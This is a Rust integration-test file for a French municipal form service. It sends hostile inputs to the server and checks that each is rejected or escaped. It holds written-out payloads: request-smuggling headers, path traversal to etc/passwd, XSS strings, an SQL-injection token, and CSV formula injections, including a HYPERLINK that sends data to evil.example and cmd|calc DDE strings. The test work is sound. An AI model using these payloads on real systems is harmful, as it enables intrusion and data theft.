@@ -1,0 +1,919 @@
+//! The hostile-input corpus, sent to the live server over HTTP: the JSON API, the HTML form
+//! path, raw sockets for header abuse, and the back office. Every refused case gets a 4xx
+//! with a plain French message, never a 5xx, and writes nothing. Hostile text that is valid
+//! (markup, spreadsheet formulas) is stored as typed and comes back escaped or neutralised
+//! wherever it is shown. Runs on SQLite, and on PostgreSQL under `TEST_DATABASE_URL`.
+
+mod common;
+
+use std::time::Duration;
+
+use common::staff::{add_user, login};
+use common::uploads::html_unescape;
+use common::{TestApp, spawn_app};
+use guichet::domain::Role;
+use reqwest::header::CONTENT_TYPE;
+use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+const API: &str = "/api/v1/forms/remplacement-bac/submissions";
+const HTML: &str = "/demarches/remplacement-bac";
+const JSON: &str = "application/json";
+const FORM: &str = "application/x-www-form-urlencoded";
+
+/// One hostile request and what the server must answer.
+struct Case {
+    name: String,
+    path: &'static str,
+    content_type: &'static str,
+    body: Vec<u8>,
+    status: u16,
+    /// A fragment of the plain message the answer carries (HTML unescaped first).
+    says: &'static str,
+}
+
+fn case(
+    name: impl Into<String>,
+    path: &'static str,
+    content_type: &'static str,
+    body: impl Into<Vec<u8>>,
+    status: u16,
+    says: &'static str,
+) -> Case {
+    Case {
+        name: name.into(),
+        path,
+        content_type,
+        body: body.into(),
+        status,
+        says,
+    }
+}
+
+/// A valid bin request, as the API takes it.
+fn bin() -> Value {
+    json!({
+        "motif": "casse",
+        "numero_bac": "00123456",
+        "type_bac": "ordures-menageres",
+        "nombre_residents": 4,
+        "nom": "Claire Martin",
+        "adresse": {"numero_voie": "12", "rue": "Rue de la Libération", "commune": "marmande"},
+        "email": "claire.martin@example.org"
+    })
+}
+
+/// The valid bin request with one value replaced (`/`-separated pointer; created if absent).
+fn bin_with(pointer: &str, value: Value) -> Vec<u8> {
+    let mut data = bin();
+    let mut target = &mut data;
+    let mut keys: Vec<&str> = pointer.trim_start_matches('/').split('/').collect();
+    let last = keys.pop().unwrap();
+    for key in keys {
+        target = &mut target[key];
+    }
+    target[last] = value;
+    serde_json::to_vec(&data).unwrap()
+}
+
+/// A valid bin request as its HTML form posts it, sent straight to filing (`_action=submit`),
+/// with fields replaced or added; `raw` is appended as is (already encoded).
+fn form_with(overrides: &[(&str, &str)], raw: &str) -> Vec<u8> {
+    let mut pairs: Vec<(&str, &str)> = vec![
+        ("_action", "submit"),
+        ("motif", "casse"),
+        ("numero_bac", "00123456"),
+        ("type_bac", "ordures-menageres"),
+        ("nombre_residents", "4"),
+        ("nom", "Claire Martin"),
+        ("adresse.rue", "Rue de la Libération"),
+        ("adresse.commune", "marmande"),
+    ];
+    for (name, value) in overrides {
+        pairs.retain(|(n, _)| n != name);
+        pairs.push((name, value));
+    }
+    let mut body = serde_urlencoded::to_string(&pairs).unwrap();
+    body.push_str(raw);
+    body.into_bytes()
+}
+
+fn json_cases() -> Vec<Case> {
+    let deep = format!("{}{}", "[".repeat(5_000), "]".repeat(5_000));
+    let mut unknown_keys = serde_json::Map::new();
+    for i in 0..20_000 {
+        unknown_keys.insert(format!("champ{i}"), json!(i));
+    }
+    vec![
+        case(
+            "oversized body",
+            API,
+            JSON,
+            bin_with("/nom", json!("x".repeat(2 * 1024 * 1024))),
+            413,
+            "trop volumineux",
+        ),
+        case(
+            "oversized field",
+            API,
+            JSON,
+            bin_with("/nom", json!("x".repeat(10_000))),
+            422,
+            "trop long",
+        ),
+        case("deep nesting", API, JSON, deep, 400, "mal formé"),
+        case(
+            "deep nesting inside a field",
+            API,
+            JSON,
+            bin_with("/nom", serde_json::from_str(&format!("{}{}", "[".repeat(100), "]".repeat(100))).unwrap()),
+            422,
+            "Saisissez un texte",
+        ),
+        case(
+            "invalid UTF-8",
+            API,
+            JSON,
+            b"{\"nom\": \"Claire \xff\xfe Martin\"}".to_vec(),
+            400,
+            "mal formé",
+        ),
+        case(
+            "a raw NUL byte in a string",
+            API,
+            JSON,
+            b"{\"nom\": \"a\x00b\"}".to_vec(),
+            400,
+            "mal formé",
+        ),
+        case(
+            "an escaped NUL in a text",
+            API,
+            JSON,
+            bin_with("/nom", json!("Claire\u{0}Martin")),
+            400,
+            "caractère nul",
+        ),
+        case(
+            "a control character in a nested text",
+            API,
+            JSON,
+            bin_with("/adresse/rue", json!("Rue\u{7} de la Paix")),
+            422,
+            "caractère invisible",
+        ),
+        case(
+            "a NUL in an unknown key",
+            API,
+            JSON,
+            bin_with("/a\u{0}b", json!(1)),
+            400,
+            "caractère nul",
+        ),
+        case(
+            "a control character in an unknown key",
+            API,
+            JSON,
+            bin_with("/a\u{1b}b", json!(1)),
+            422,
+            "caractère invisible",
+        ),
+        case("a number for a text", API, JSON, bin_with("/nom", json!(42)), 422, "Saisissez un texte"),
+        case("a list for a text", API, JSON, bin_with("/nom", json!(["a"])), 422, "Saisissez un texte"),
+        case(
+            "a text for an integer",
+            API,
+            JSON,
+            bin_with("/nombre_residents", json!("quatre")),
+            422,
+            "nombre entier",
+        ),
+        case(
+            "a decimal for an integer",
+            API,
+            JSON,
+            bin_with("/nombre_residents", json!(4.5)),
+            422,
+            "nombre entier",
+        ),
+        case(
+            "null for an integer",
+            API,
+            JSON,
+            bin_with("/nombre_residents", Value::Null),
+            422,
+            "nombre entier",
+        ),
+        case(
+            "a text for an object",
+            API,
+            JSON,
+            bin_with("/adresse", json!("12 rue de la Paix")),
+            422,
+            "groupe de réponses",
+        ),
+        case(
+            "a choice that is not offered",
+            API,
+            JSON,
+            bin_with("/motif", json!("autre")),
+            422,
+            "Choisissez",
+        ),
+        case(
+            "a text for a number",
+            "/api/v1/forms/encombrants/submissions",
+            JSON,
+            br#"{"volume_m3": "beaucoup"}"#.to_vec(),
+            422,
+            "Saisissez un nombre",
+        ),
+        case(
+            "a text for a list",
+            "/api/v1/forms/encombrants/submissions",
+            JSON,
+            r#"{"objets": "canapé"}"#.as_bytes().to_vec(),
+            422,
+            "liste de choix",
+        ),
+        case(
+            "a text for a yes/no",
+            "/api/v1/forms/signalement-voirie/submissions",
+            JSON,
+            br#"{"danger_immediat": "oui"}"#.to_vec(),
+            422,
+            "oui ou par non",
+        ),
+        case(
+            "an extra field",
+            API,
+            JSON,
+            bin_with("/statut", json!("resolu")),
+            422,
+            "statut",
+        ),
+        case(
+            "20,000 extra fields",
+            API,
+            JSON,
+            serde_json::to_vec(&Value::Object(unknown_keys)).unwrap(),
+            422,
+            "champ0",
+        ),
+        case(
+            "a key given twice",
+            API,
+            JSON,
+            br#"{"motif": "casse", "nom": "Claire Martin", "nom": "Autre Personne", "type_bac": "ordures-menageres", "nombre_residents": 4, "numero_bac": "00123456", "adresse": {"rue": "Rue A", "commune": "marmande"}}"#.to_vec(),
+            400,
+            "apparaît deux fois",
+        ),
+        case(
+            "a huge integer",
+            API,
+            JSON,
+            bin_with("/nombre_residents", json!(1e300)),
+            422,
+            "inférieure ou égale à 20",
+        ),
+        case(
+            "an integer past 64 bits",
+            API,
+            JSON,
+            String::from_utf8(bin_with("/nombre_residents", json!(0)))
+                .unwrap()
+                .replace("\"nombre_residents\":0", "\"nombre_residents\":123456789012345678901234567890"),
+            422,
+            "inférieure ou égale à 20",
+        ),
+        case(
+            "a number past the floating-point range",
+            API,
+            JSON,
+            br#"{"nombre_residents": 1e400}"#.to_vec(),
+            400,
+            "mal formé",
+        ),
+        case("an array for the request", API, JSON, b"[]".to_vec(), 422, "objet JSON"),
+        case("null for the request", API, JSON, b"null".to_vec(), 422, "objet JSON"),
+        case("an empty body", API, JSON, Vec::new(), 400, "mal formé"),
+        case(
+            "an unknown commune",
+            API,
+            JSON,
+            bin_with("/adresse/commune", json!("atlantide")),
+            422,
+            "commune",
+        ),
+        case(
+            "a catastrophic-backtracking probe on a pattern",
+            API,
+            JSON,
+            bin_with("/numero_bac", json!(format!("{}x", "0".repeat(5_000)))),
+            422,
+            "trop long",
+        ),
+        case("text/plain instead of JSON", API, "text/plain", serde_json::to_vec(&bin()).unwrap(), 415, "Content-Type"),
+    ]
+}
+
+fn html_cases() -> Vec<Case> {
+    let long = "x".repeat(300 * 1024);
+    vec![
+        case(
+            "oversized body",
+            HTML,
+            FORM,
+            form_with(&[("nom", &long)], ""),
+            413,
+            "trop volumineux",
+        ),
+        case(
+            "oversized field",
+            HTML,
+            FORM,
+            form_with(&[("nom", &"x".repeat(5_000))], ""),
+            422,
+            "trop long",
+        ),
+        case(
+            "percent-encoded bytes that are not UTF-8",
+            HTML,
+            FORM,
+            form_with(&[], "&nom=%FF%FE"),
+            400,
+            "illisible",
+        ),
+        case(
+            "raw bytes that are not UTF-8",
+            HTML,
+            FORM,
+            [form_with(&[], "&nom="), b"\xff\xfe".to_vec()].concat(),
+            400,
+            "illisible",
+        ),
+        case(
+            "a NUL byte",
+            HTML,
+            FORM,
+            form_with(&[("nom", "Claire\u{0}Martin")], ""),
+            400,
+            "caractère nul",
+        ),
+        case(
+            "an escape character",
+            HTML,
+            FORM,
+            form_with(&[("nom", "Claire\u{1b}[31mMartin")], ""),
+            422,
+            "caractère invisible",
+        ),
+        case(
+            "a text for an integer",
+            HTML,
+            FORM,
+            form_with(&[("nombre_residents", "quatre")], ""),
+            422,
+            "nombre entier",
+        ),
+        case(
+            "a huge integer",
+            HTML,
+            FORM,
+            form_with(
+                &[("nombre_residents", "123456789012345678901234567890")],
+                "",
+            ),
+            422,
+            "nombre entier",
+        ),
+        case(
+            "an integer beyond the floating-point range",
+            HTML,
+            FORM,
+            form_with(&[("nombre_residents", "1e400")], ""),
+            422,
+            "nombre entier",
+        ),
+        case(
+            "a choice that is not offered",
+            HTML,
+            FORM,
+            form_with(&[("motif", "autre")], ""),
+            422,
+            "Choisissez",
+        ),
+        case(
+            "a field given twice",
+            HTML,
+            FORM,
+            form_with(&[], "&nom=Autre+Personne"),
+            422,
+            "plusieurs fois",
+        ),
+        case(
+            "an unknown commune",
+            HTML,
+            FORM,
+            form_with(&[("adresse.commune", "atlantide")], ""),
+            422,
+            "commune",
+        ),
+        case(
+            "a hidden field missing its condition",
+            HTML,
+            FORM,
+            form_with(&[("numero_bac", "")], ""),
+            422,
+            "obligatoire",
+        ),
+        case(
+            "JSON to the HTML form",
+            HTML,
+            JSON,
+            serde_json::to_vec(&bin()).unwrap(),
+            415,
+            "rechargez",
+        ),
+        case(
+            "a multipart body without its boundary",
+            HTML,
+            "multipart/form-data",
+            b"--x\r\nContent-Disposition: form-data; name=\"nom\"\r\n\r\nA\r\n--x--\r\n".to_vec(),
+            400,
+            "rechargez",
+        ),
+    ]
+}
+
+async fn send(app: &TestApp, case: &Case) -> (u16, String) {
+    let response = app
+        .client
+        .post(app.url(case.path))
+        .header(CONTENT_TYPE, case.content_type)
+        .body(case.body.clone())
+        .send()
+        .await
+        .unwrap_or_else(|err| panic!("{}: no answer: {err}", case.name));
+    let status = response.status().as_u16();
+    (
+        status,
+        html_unescape(&response.text().await.unwrap_or_default()),
+    )
+}
+
+#[tokio::test]
+async fn every_hostile_submission_gets_a_plain_4xx_and_writes_nothing() {
+    let app = spawn_app().await;
+    let mut failures = Vec::new();
+    for case in json_cases().iter().chain(html_cases().iter()) {
+        let (status, body) = send(&app, case).await;
+        if status != case.status || !body.contains(case.says) {
+            failures.push(format!(
+                "{} ({}): expected {} saying {:?}, got {status}: {}",
+                case.name,
+                case.path,
+                case.status,
+                case.says,
+                body.chars().take(300).collect::<String>()
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+    assert_eq!(app.count().await, 0, "no hostile case wrote a request");
+    // The server is still whole: the valid request goes through.
+    let response = app
+        .client
+        .post(app.url(API))
+        .json(&bin())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 201);
+    assert_eq!(app.count().await, 1);
+}
+
+/// Sends raw bytes on a fresh connection and returns what came back before it closed.
+async fn raw(app: &TestApp, bytes: &[u8]) -> String {
+    let mut stream = tokio::net::TcpStream::connect(app.address.trim_start_matches("http://"))
+        .await
+        .unwrap();
+    // The server may answer and close before reading everything; that is an answer too.
+    let _ = stream.write_all(bytes).await;
+    let mut received = Vec::new();
+    let read = tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut received));
+    assert!(read.await.is_ok(), "the server held the connection open");
+    String::from_utf8_lossy(&received).into_owned()
+}
+
+#[tokio::test]
+async fn header_abuse_is_refused_at_the_door() {
+    let app = spawn_app().await;
+    let body = serde_json::to_string(&bin()).unwrap();
+    let many_headers: String = (0..500).map(|i| format!("X-H{i}: v\r\n")).collect();
+    let cases: Vec<(&str, String)> = vec![
+        (
+            "two different Content-Lengths",
+            format!(
+                "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: 5\r\nContent-Length: {}\r\n\r\n{body}",
+                body.len()
+            ),
+        ),
+        (
+            "a Content-Length that is not a number",
+            format!(
+                "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{body}"
+            ),
+        ),
+        (
+            "an unknown transfer coding",
+            format!(
+                "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nTransfer-Encoding: gzip\r\n\r\n{body}"
+            ),
+        ),
+        (
+            "500 headers",
+            format!("GET / HTTP/1.1\r\nHost: g\r\n{many_headers}\r\n"),
+        ),
+        (
+            "a header line without a colon",
+            "GET / HTTP/1.1\r\nHost: g\r\nNot a header\r\n\r\n".into(),
+        ),
+        (
+            "a 100 KiB request line",
+            format!(
+                "GET /{} HTTP/1.1\r\nHost: g\r\n\r\n",
+                "a".repeat(100 * 1024)
+            ),
+        ),
+        (
+            "a bare LF request with a NUL in the path",
+            "GET /\0 HTTP/1.1\nHost: g\n\n".into(),
+        ),
+    ];
+    for (name, request) in cases {
+        let response = raw(&app, request.as_bytes()).await;
+        let status: u16 = response
+            .get(9..12)
+            .and_then(|s| s.parse().ok())
+            .unwrap_or(0);
+        // Closing without an answer is a refusal too; answering 2xx or 5xx is not.
+        assert!(
+            response.is_empty() || (400..500).contains(&status),
+            "{name}: {}",
+            response.lines().next().unwrap_or_default()
+        );
+    }
+    assert_eq!(app.count().await, 0, "no smuggled request was filed");
+
+    // Chunked and a Content-Length together (request smuggling): RFC 9112 §6.3 lets the
+    // server read the chunked body, which is the request meant, provided it then closes
+    // the connection so that nothing after it is read as another request.
+    let smuggled = format!(
+        "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: 4\r\n\r\n{body}"
+    );
+    let request = format!(
+        "POST {API} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{body}\r\n0\r\n\r\n{smuggled}",
+        body.len()
+    );
+    let response = raw(&app, request.as_bytes()).await;
+    assert_eq!(
+        response.matches("HTTP/1.1 ").count(),
+        1,
+        "one answer, then closed: {response}"
+    );
+    assert_eq!(app.count().await, 1, "the second request was not read");
+
+    // Headers a client controls, on ordinary requests.
+    let client = &app.client;
+    let junk_cookie = client
+        .get(app.url("/bureau"))
+        .header(
+            "cookie",
+            format!("guichet_session={}; x=\"; =; ;;", "%ff".repeat(2_000)),
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(
+        junk_cookie.status(),
+        303,
+        "a junk session cookie is not signed in"
+    );
+    for token in ["", "x", &"A".repeat(8_000), "gst_' OR 1=1 --"] {
+        let response = client
+            .get(app.url("/api/v1/queues"))
+            .header("authorization", format!("Bearer {token}"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 401, "token {:?}", token.get(..10));
+        let body: Value = response.json().await.unwrap();
+        assert!(body["errors"][0]["message"].as_str().unwrap().len() > 10);
+    }
+    let basic = client
+        .get(app.url("/api/v1/queues"))
+        .header("authorization", "Basic YWRtaW46YWRtaW4=")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(basic.status(), 401);
+    let cross_site = client
+        .post(app.url("/bureau/connexion"))
+        .header("sec-fetch-site", "cross-site")
+        .form(&[("email", "a@b.fr"), ("password", "x")])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(cross_site.status(), 403);
+    let charset = client
+        .post(app.url(API))
+        .header(CONTENT_TYPE, "application/json; charset=\u{0}\u{1}")
+        .body(body.clone())
+        .send()
+        .await;
+    // reqwest refuses to send a header with control characters; the server never sees it.
+    assert!(charset.is_err() || charset.unwrap().status().is_client_error());
+    for path in [
+        "/suivi?reference=GU-%00",
+        "/bureau/files/dechets-bacs?commune=%00",
+        "/api/v1/forms/remplacement-bac/submissions?commune=a%00",
+        "/demarches/remplacement-bac%00",
+    ] {
+        let response = client.get(app.url(path)).send().await.unwrap();
+        assert_eq!(response.status(), 400, "{path}");
+        assert!(
+            response.text().await.unwrap().contains("caractère nul"),
+            "{path}"
+        );
+    }
+    let login_nul = client
+        .post(app.url("/bureau/connexion"))
+        .form(&[("email", "agent\u{0}@example.org"), ("password", "x\u{0}y")])
+        .send()
+        .await
+        .unwrap();
+    assert!(
+        login_nul.status().is_client_error(),
+        "a NUL in a login is refused, not a database error: {}",
+        login_nul.status()
+    );
+}
+
+#[tokio::test]
+async fn paths_that_climb_out_are_not_found() {
+    let app = spawn_app().await;
+    for path in [
+        "/static/..%2f..%2fCargo.toml",
+        "/static/../Cargo.toml",
+        "/suivi/..%2f..%2fetc%2fpasswd",
+        "/suivi/abc/pieces/..%2f..%2f..%2fetc%2fpasswd",
+        "/demarches/..%2fremplacement-bac",
+        "/bureau/demandes/..%2F..%2Fetc/pieces/..",
+    ] {
+        let response = app.client.get(app.url(path)).send().await.unwrap();
+        let status = response.status().as_u16();
+        let body = response.text().await.unwrap();
+        assert!(matches!(status, 303 | 400 | 404), "{path}: {status}");
+        assert!(
+            !body.contains("[package]") && !body.contains("root:"),
+            "{path} leaked a file"
+        );
+    }
+}
+
+const SCRIPT: &str = "<script>alert('nom')</script>";
+const IMG: &str = "\"><img src=x onerror=alert(1)>";
+
+/// Where the markup shows in a page, it shows as text.
+fn assert_escaped(page: &str, what: &str) {
+    assert!(!page.contains(SCRIPT), "{what}: raw <script> in the page");
+    assert!(!page.contains(IMG), "{what}: raw <img onerror> in the page");
+    assert!(!page.contains("<img src=x"), "{what}: an injected element");
+}
+
+#[tokio::test]
+async fn markup_comes_back_escaped_wherever_it_is_shown() {
+    let app = spawn_app().await;
+    // Reflected: query strings and paths echoed in pages.
+    for path in [
+        format!("/suivi?reference={}", urlencode(SCRIPT)),
+        format!("/demarches/{}", urlencode(SCRIPT)),
+        format!("/?q={}", urlencode(IMG)),
+        format!("/bureau/connexion?suite={}", urlencode(IMG)),
+    ] {
+        let page = app.get_text(&path).await;
+        assert_escaped(&page, &path);
+    }
+    // The review page of the HTML path shows the answers back before filing.
+    let review = app
+        .client
+        .post(app.url(HTML))
+        .header(CONTENT_TYPE, FORM)
+        .body(
+            String::from_utf8(form_with(
+                &[("_action", "review"), ("nom", SCRIPT), ("adresse.rue", IMG)],
+                "",
+            ))
+            .unwrap(),
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(review.status(), 200);
+    let page = review.text().await.unwrap();
+    assert_escaped(&page, "review page");
+    assert!(
+        html_unescape(&page).contains(SCRIPT),
+        "the text itself is kept"
+    );
+    // Stored: filed through the API, then read by the citizen, the agent and the élu.
+    let response = app
+        .client
+        .post(app.url(API))
+        .body(bin_with("/nom", json!(SCRIPT)))
+        .header(CONTENT_TYPE, JSON)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 201);
+    let created: Value = response.json().await.unwrap();
+    let reference = created["reference"].as_str().unwrap();
+    let tracking = created["tracking_url"].as_str().unwrap();
+    let tracking_path = &tracking[tracking.find("/suivi/").unwrap()..];
+    assert_escaped(&app.get_text(tracking_path).await, "tracking page");
+
+    add_user(&app, "agent@bacs.fr", Role::Agent, &["environnement"], &[]).await;
+    add_user(&app, "elu@marmande.fr", Role::Elu, &[], &["marmande"]).await;
+    let agent = login(&app, "agent@bacs.fr").await;
+    let (status, _) = agent.act(&app, reference, "note", &[("text", IMG)]).await;
+    assert!(status.is_success() || status.is_redirection(), "{status}");
+    let (status, _) = agent
+        .act(&app, reference, "message", &[("text", SCRIPT)])
+        .await;
+    assert!(status.is_success() || status.is_redirection(), "{status}");
+    let (_, page) = agent
+        .get(&app, &format!("/bureau/demandes/{reference}"))
+        .await;
+    assert_escaped(&page, "agent's request page");
+    assert!(
+        html_unescape(&page).contains(IMG),
+        "the note is shown, as text"
+    );
+    let (_, queue) = agent.get(&app, "/bureau/files/dechets-bacs").await;
+    assert_escaped(&queue, "queue listing");
+    assert!(queue.contains(reference));
+    assert_escaped(
+        &app.get_text(tracking_path).await,
+        "tracking page with a message",
+    );
+    let elu = login(&app, "elu@marmande.fr").await;
+    for path in [
+        format!("/bureau/demandes/{reference}"),
+        format!("/bureau/demandes/{reference}/compte-rendu"),
+        "/bureau/elu".to_owned(),
+    ] {
+        let (status, page) = elu.get(&app, &path).await;
+        assert_eq!(status, 200, "{path}");
+        assert_escaped(&page, &path);
+    }
+    // The receipt e-mail (HTML part) escapes too.
+    let mail_dir = app.data_dir.path().join("mail");
+    let mut mails = String::new();
+    for _ in 0..50 {
+        mails = std::fs::read_dir(&mail_dir)
+            .map(|entries| {
+                entries
+                    .flatten()
+                    .map(|e| std::fs::read_to_string(e.path()).unwrap_or_default())
+                    .collect()
+            })
+            .unwrap_or_default();
+        // The agent's message to the citizen, which holds the markup, has been sent.
+        if mails.matches("alert(").count() >= 2 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    // The HTML parts, with quoted-printable soft line breaks joined (plain-text parts show
+    // the text as typed, which is right: nothing renders them).
+    let html: String = mails
+        .split("Content-Type: text/html")
+        .skip(1)
+        .map(|part| {
+            part.split("\r\n--")
+                .next()
+                .unwrap_or_default()
+                .replace("=\r\n", "")
+        })
+        .collect();
+    assert!(!html.is_empty(), "an HTML e-mail was sent");
+    assert!(!html.contains("<script"), "raw markup in an HTML e-mail");
+    assert!(
+        html_unescape(&html).contains("<script>alert("),
+        "the message is in the HTML part, escaped:\n{html}"
+    );
+}
+
+fn urlencode(text: &str) -> String {
+    serde_urlencoded::to_string([("x", text)]).unwrap()[2..].to_owned()
+}
+
+#[tokio::test]
+async fn spreadsheet_formulas_stay_text_in_the_csv_export() {
+    let app = spawn_app().await;
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
+        "+33 5 53 00 00 00",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    for formula in formulas {
+        let response = app
+            .client
+            .post(app.url(API))
+            .header(CONTENT_TYPE, JSON)
+            .body(bin_with("/nom", json!(formula)))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 201);
+    }
+    add_user(&app, "agent@bacs.fr", Role::Agent, &["environnement"], &[]).await;
+    let agent = login(&app, "agent@bacs.fr").await;
+    let response = app
+        .client
+        .get(app.url("/bureau/files/dechets-bacs/export.csv?commune=marmande"))
+        .header("cookie", &agent.cookie)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 200);
+    assert!(
+        response.headers()["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/csv")
+    );
+    let bytes = response.bytes().await.unwrap();
+    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "a BOM for spreadsheets");
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(&bytes[3..]);
+    let header = reader.headers().unwrap().clone();
+    assert_eq!(&header[0], "Référence");
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), formulas.len(), "one row per request");
+    let all_cells: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
+    for cell in &all_cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+    for formula in formulas {
+        assert!(
+            all_cells
+                .iter()
+                .any(|c| c.contains(&format!("Nom et prénom : {formula}"))),
+            "the answer is kept as typed: {formula}"
+        );
+    }
+    // Another service's agent cannot export this queue.
+    add_user(&app, "voirie@agglo.fr", Role::Agent, &["voirie"], &[]).await;
+    let other = login(&app, "voirie@agglo.fr").await;
+    let (status, _) = other
+        .get(&app, "/bureau/files/dechets-bacs/export.csv")
+        .await;
+    assert_eq!(status, 404);
+}
+
+/// `^(a+)+$` takes exponential time in a backtracking engine on "aaaa…!"; the validator's
+/// regex engine is linear, so a 50,000-character probe is refused at once.
+#[tokio::test]
+async fn a_backtracking_prone_pattern_is_bounded_at_run_time() {
+    let catalogue = common::catalogue_copy(
+        &common::fixture("minimal"),
+        &[&common::fixture("hostile/pattern-backtrack")],
+    );
+    let app = common::spawn_app_with(catalogue.path()).await;
+    let probe = format!("{}!", "a".repeat(50_000));
+    let started = std::time::Instant::now();
+    let response = app
+        .client
+        .post(app.url("/api/v1/forms/demande/submissions"))
+        .json(&json!({"categorie": "trou", "commune": "alpha", "code": probe}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 422);
+    let body: Value = response.json().await.unwrap();
+    assert_eq!(body["errors"][0]["path"], "/code");
+    assert!(common::first_error(&body).contains("que des a"), "{body}");
+    assert!(
+        started.elapsed() < Duration::from_secs(10),
+        "answered in {:?}",
+        started.elapsed()
+    );
+    assert_eq!(app.count().await, 0);
+}
